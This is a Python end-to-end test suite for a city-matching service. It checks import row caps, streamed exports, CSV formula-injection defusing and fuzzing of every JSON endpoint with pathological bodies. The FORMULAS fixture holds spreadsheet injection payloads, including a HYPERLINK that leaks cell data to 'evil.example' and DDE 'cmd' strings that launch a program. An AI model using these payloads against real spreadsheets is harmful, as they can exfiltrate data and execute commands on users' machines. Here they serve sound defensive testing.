"""The attack suite for files and bodies: huge imports, CSV formula injection, exports that must stream and import
back, and pathological JSON sent to every JSON-taking endpoint.

Every part is a real process (services, nats, Caddy, the databases); every request goes through the gateway.
"""

import csv
import io
import json
import random
import time
import uuid
from datetime import date, timedelta
from pathlib import Path

import httpx
import pytest

from citypair_shared.spreadsheet import FORMULA_STARTS
from citypair_shared.strict_json import MAX_DEPTH
from tests.e2e.conftest import start_stack
from tests.support import city_body, eventually, query

PROBLEM_JSON = "application/problem+json"
MAX_ROWS = 3_000  # this module's import cap (the default is 50,000): small, so a file past it stays small too
JSON_SERVICES = ("identity", "profiles", "matching", "pilot_zones")


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    stack = start_stack(
        tmp_path_factory.mktemp("stack"),
        CITYPAIR_PROFILES_IMPORT_MAX_ROWS=str(MAX_ROWS),
        CITYPAIR_IDENTITY_SIGNIN_ADDRESS_ATTEMPTS="100000",
    )
    yield stack
    stack.stop()


def csv_import(client: httpx.Client, text: str) -> httpx.Response:
    return client.post("/api/v1/cities/import", content=text.encode(), headers={"Content-Type": "text/csv"})


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def generated_csv(tag: str, count: int) -> str:
    lines = ["external_id,name,country_code,latitude,longitude,population,offer_ai,need_ai"]
    lines += [
        f"{tag}-{i},Gen {tag} {i},UZ,{40 + i / 10_000:.4f},{60 + i / 10_000:.4f},{1000 + i},3,2" for i in range(count)
    ]
    return "\n".join(lines) + "\n"


def peak_memory_growth(stack, run) -> tuple[float, object]:
    """(MB the profiles process's peak resident memory rose by while `run()` ran, what `run()` returned)."""
    pid = stack.processes["profiles"].pid
    status = Path(f"/proc/{pid}/status")

    def kilobytes(field: str) -> int:
        line = next(line for line in status.read_text().splitlines() if line.startswith(field + ":"))
        return int(line.split()[1])

    Path(f"/proc/{pid}/clear_refs").write_text("5")  # the peak (VmHWM) starts again from now
    before = kilobytes("VmRSS")
    result = run()
    return (kilobytes("VmHWM") - before) / 1024, result


# --------------------------------------------------------------------------- imports: bounded, refused whole


def test_an_import_past_the_row_cap_is_refused_whole_and_writes_nothing(stack, coordinator):
    tag = uuid.uuid4().hex[:6]
    response = csv_import(coordinator, generated_csv(tag, MAX_ROWS + 1))
    assert response.status_code == 413, response.text[:300]
    assert response.headers["content-type"] == PROBLEM_JSON
    problem = response.json()
    assert problem["type"] == "/problems/too-many-rows" and problem["max_rows"] == MAX_ROWS
    assert problem["errors"][0]["field"] == "body"
    assert coordinator.get("/api/v1/cities", params={"q": f"gen {tag}"}).json()["total"] == 0
    assert csv_import(coordinator, generated_csv(tag, 3)).json()["accepted"] == 3  # under the cap: imported


def test_a_flood_of_tiny_json_rows_is_refused_at_once_in_bounded_memory(stack, coordinator):
    # The attack: `[1,1,…]`, each row a cheap rejection with a report line (2 MB of them took 5 GB and 190 s).
    body = b"[" + b"1," * 100_000 + b"1]"
    start = time.monotonic()
    growth, response = peak_memory_growth(
        stack,
        lambda: coordinator.post("/api/v1/cities/import", content=body, headers={"Content-Type": "application/json"}),
    )
    assert response.status_code == 413, response.text[:300]
    assert response.json()["type"] == "/problems/too-many-rows"
    assert time.monotonic() - start < 10
    assert growth < 100, f"profiles grew by {growth:.0f} MB"


# --------------------------------------------------------------------------- exports: streamed, defused, re-importable


def test_exports_stream_in_batches_and_carry_every_row(stack, coordinator):
    tag = uuid.uuid4().hex[:6]
    assert csv_import(coordinator, generated_csv(tag, 1_200)).json()["accepted"] == 1_200
    params = {"q": f"gen {tag}"}
    with coordinator.stream("GET", "/api/v1/cities/export", params=params) as response:
        # Chunks leave as each batch is read: no length is known up front (the whole export was built first before).
        assert response.headers.get("transfer-encoding") == "chunked" and "content-length" not in response.headers
        text = response.read().decode()
    rows = rows_of(text)
    assert len(rows) == 1_200 and len({r["id"] for r in rows}) == 1_200
    as_json = coordinator.get("/api/v1/cities/export", params={**params, "format": "json"})
    assert as_json.headers["content-type"] == "application/json"
    assert sorted(c["id"] for c in as_json.json()) == sorted(r["id"] for r in rows)
    assert coordinator.get("/api/v1/cities/export", params={"q": f"none {tag}", "format": "json"}).json() == []
    for fmt in ("csv", "json"):
        with coordinator.stream("GET", "/api/v1/pilot-zones/export", params={"format": fmt}) as response:
            assert response.status_code == 200 and response.headers.get("transfer-encoding") == "chunked"
            response.read()


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "local_name": "+1+cmd|' /C calc'!A0",
    "admin_region": "-2+3",
    "external_id": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def formula_city(tag: str, **overrides) -> dict:
    """A city whose every free-text field is a spreadsheet formula (each tagged, to find it again)."""
    body = city_body(**{k: f"{v} {tag}" for k, v in FORMULAS.items()}, latitude=-33.87, longitude=-70.65)
    return {
        **body,
        "country_code": "CL",
        "alternate_names": [f"=1+1 {tag}", f"Plain {tag}"],
        "languages": ["es"],
        "corridors": ["china_pakistan"],
        "preferred_countries": ["CN"],
        "indicators": {"internet_users_pct": {"value": 82.5, "year": 2023}},
        **overrides,
    }


def assert_no_cell_starts_a_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                float(cell), column  # noqa: B018 - only a number may start with `-` or `+`


def test_the_cities_csv_export_defuses_every_text_cell_an_official_controls(stack, coordinator, official_of):
    tag = uuid.uuid4().hex[:6]
    city = coordinator.post("/api/v1/cities", json=formula_city(tag)).json()
    official = official_of(city["id"])  # the official of the city is who writes these fields from now on
    changed = official.patch(f"/api/v1/cities/{city['id']}", json={"name": f"@SUM(9) {tag}"})
    assert changed.status_code == 200, changed.text
    [row] = rows_of(coordinator.get("/api/v1/cities/export", params={"q": tag}).text)
    assert_no_cell_starts_a_formula([row])
    assert row["name"] == f"'@SUM(9) {tag}"
    for field in ("local_name", "admin_region", "external_id"):
        assert row[field] == f"'{FORMULAS[field]} {tag}", field
    assert row["alternate_names"] == f"'=1+1 {tag}|Plain {tag}"
    assert row["latitude"] == "-33.87"  # numbers stay numbers


def test_the_pilot_zones_csv_export_defuses_titles(stack, coordinator, official_of):
    tag = uuid.uuid4().hex[:6]
    a = coordinator.post("/api/v1/cities", json=city_body(f"Zone A {tag}")).json()["id"]
    b = coordinator.post("/api/v1/cities", json=city_body(f"Zone B {tag}", country_code="KZ")).json()["id"]
    database = stack.config.database_url("pilot_zones")
    eventually(
        lambda: query(database, "SELECT count(*) FROM known_city WHERE id IN (:a, :b)", a=a, b=b) == [(2,)],
        what="pilot_zones to know both cities",
    )
    title = f"=cmd|' /C calc'!A0 {tag}"
    overdue = {"title": f"@SUM(1) {tag}", "due_date": (date.today() - timedelta(days=3)).isoformat()}
    created = official_of(a).post(
        "/api/v1/pilot-zones", json={"title": title, "city_ids": [a, b], "milestones": [overdue]}
    )
    assert created.status_code == 201, created.text
    rows = [r for r in rows_of(coordinator.get("/api/v1/pilot-zones/export").text) if r["id"] == created.json()["id"]]
    assert_no_cell_starts_a_formula(rows)
    assert rows[0]["title"] == "'" + title
    assert rows[0]["overdue_milestones"] == "'" + overdue["title"]


def test_a_csv_export_imports_back_unchanged_and_its_ids_update_the_same_cities(stack, coordinator):
    tag = uuid.uuid4().hex[:6]
    # Neither has a GeoNames id or an external id: only the export's `id` can match them again.
    made = [
        coordinator.post("/api/v1/cities", json=formula_city(tag, external_id=None)).json()["id"],
        coordinator.post("/api/v1/cities", json=city_body(f"Osh {tag}", country_code="KG")).json()["id"],
    ]
    exported = coordinator.get("/api/v1/cities/export", params={"q": tag}).text
    report = csv_import(coordinator, exported).json()
    assert (report["accepted"], report["rejected"]) == (2, 0), report
    assert sorted((r["id"], r["action"]) for r in report["rows"]) == sorted((c, "unchanged") for c in made)
    edited = exported.replace(",12900000,", ",12900001,")
    again = csv_import(coordinator, edited).json()
    assert {r["action"] for r in again["rows"]} == {"updated"}
    directory = coordinator.get("/api/v1/cities", params={"q": tag}).json()
    assert directory["total"] == 2 and {c["population"] for c in directory["items"]} == {12_900_001}
    xian_like = next(c for c in directory["items"] if c["id"] == made[0])
    assert xian_like["name"] == f"{FORMULAS['name']} {tag}"  # the quote that defused it is gone again


def test_a_json_export_imports_back_unchanged(stack, coordinator):
    tag = uuid.uuid4().hex[:6]
    made = coordinator.post("/api/v1/cities", json=formula_city(tag)).json()["id"]
    exported = coordinator.get("/api/v1/cities/export", params={"q": tag, "format": "json"}).content
    response = coordinator.post("/api/v1/cities/import", content=exported, headers={"Content-Type": "application/json"})
    assert response.status_code == 200, response.text
    assert [(r["id"], r["action"]) for r in response.json()["rows"]] == [(made, "unchanged")]


# --------------------------------------------------------------------------- pathological JSON, everywhere


def nested(depth: int, open_="[", close="]", inner="1") -> str:
    return open_ * depth + inner + close * depth


def pathological_bodies(seed: int = 13, variants: int = 12) -> list[tuple[str, bytes]]:
    """Bodies no endpoint may answer with a 5xx: each named, then seeded random variants of the same kinds."""
    two_mb = 2 * 1024 * 1024 - 1024  # just under the gateway's cap
    fixed = [
        ("10,000 [", b"[" * 10_000),
        ("10,000 [ closed", nested(10_000).encode()),
        ("10,000 {", nested(10_000, '{"a":', "}").encode()),
        ("past MAX_DEPTH", nested(MAX_DEPTH + 1).encode()),
        ("deep in an object", b'{"name": "x", "themes": ' + nested(200, '{"a":', "}").encode() + b"}"),
        ("duplicate key", b'{"name": "a", "name": "b", "title": "t", "title": "u"}'),
        ("duplicate nested key", b'{"x": {"k": 1, "k": 2}}'),
        ("NaN", b'{"latitude": NaN, "x": Infinity}'),
        ("1e400", b'{"latitude": 1e400}'),
        ("5,000 digits", b'{"population": ' + b"9" * 5000 + b"}"),
        ("U+0000", b'{"name": "a\\u0000", "\\u0000": 1}'),
        ("lone surrogate", b'{"name": "\\ud800", "\\udfff": "x"}'),
        ("not UTF-8", b'{"name": "\xff\xfe"}'),
        ("UTF-16", '{"name": "x"}'.encode("utf-16")),
        ("flat 2 MB array", b"[" + b"1," * (two_mb // 2) + b"1]"),
        ("2 MB string", b'{"name": "' + b"a" * two_mb + b'"}'),
        ("100k keys", b"{" + b",".join(b'"k%d":1' % i for i in range(100_000)) + b"}"),
        ("3 MB (past the gateway's cap)", b"[" + b"1," * (3 * 1024 * 1024 // 2) + b"1]"),
        ("truncated", b'{"name": "x'),
    ]
    rng = random.Random(seed)
    kinds = [
        lambda: nested(rng.randint(MAX_DEPTH + 1, 5_000), *rng.choice([("[", "]"), ('{"k":', "}")])),
        lambda: "{" + ",".join([f'"{rng.choice("abc")}": {rng.randint(0, 9)}'] * rng.randint(2, 50)) + "}",
        lambda: (
            '{"name": "' + "x" * rng.randint(0, 50) + rng.choice(["\\u0000", "\\ud8" + rng.choice("0abf") + "0"]) + '"}'
        ),
        lambda: (
            '{"v": '
            + rng.choice(["NaN", "-Infinity", "1e" + str(rng.randint(309, 9999)), "9" * rng.randint(4301, 9000)])
            + "}"
        ),
    ]
    random_ones = [(f"random {i}", rng.choice(kinds)().encode()) for i in range(variants)]
    return fixed + random_ones


def json_endpoints(stack) -> list[tuple[str, str]]:
    """(method, path) of every operation of every service that takes a JSON body, ids filled in."""
    found = []
    for name in JSON_SERVICES:
        spec = httpx.get(stack.config.service_url(name) + "/openapi.json").json()
        for path, item in spec["paths"].items():
            for method, operation in item.items():
                if "application/json" in operation.get("requestBody", {}).get("content", {}):
                    found.append((method.upper(), path.format_map(_AnyId())))
    return found


class _AnyId(dict):
    def __missing__(self, key: str) -> str:
        return "publish" if key == "action" else str(uuid.uuid4())


def test_pathological_json_to_every_json_endpoint_is_a_4xx_problem_never_a_5xx(stack, admin):
    endpoints = json_endpoints(stack)
    assert ("POST", "/api/v1/cities/import") in endpoints and ("POST", "/api/v1/auth/refresh") in endpoints
    assert {"cities", "users", "pilot-zones", "rounds"} <= {path.split("/")[3] for _, path in endpoints}
    bodies = pathological_bodies()
    deadline = time.monotonic() + 240  # below pytest-timeout's 300 s: this says why
    answers: dict[int, int] = {}
    wrong = []
    with httpx.Client(base_url=stack.config.gateway_url, headers=admin.headers, timeout=60) as client:
        for method, path in endpoints:
            for label, body in bodies:
                assert time.monotonic() < deadline, "the fuzz loop is bounded in time"
                response = client.request(method, path, content=body, headers={"Content-Type": "application/json"})
                answers[response.status_code] = answers.get(response.status_code, 0) + 1
                if response.status_code not in (400, 413, 422) or response.headers["content-type"] != PROBLEM_JSON:
                    wrong.append((method, path, label, response.status_code, response.text[:200]))
    print(f"\n{len(endpoints)} endpoints × {len(bodies)} bodies: answers {dict(sorted(answers.items()))}")
    assert not [w for w in wrong if w[3] >= 500], wrong[:10]
    assert not wrong, wrong[:10]


def test_nested_json_to_the_import_names_where(stack, coordinator):
    response = coordinator.post(
        "/api/v1/cities/import", content=nested(10_000), headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 422 and response.headers["content-type"] == PROBLEM_JSON
    duplicate = json.dumps([city_body("Ok")])[:-2] + ', "name": "Twice"}]'
    response = coordinator.post(
        "/api/v1/cities/import", content=duplicate, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "0.name"
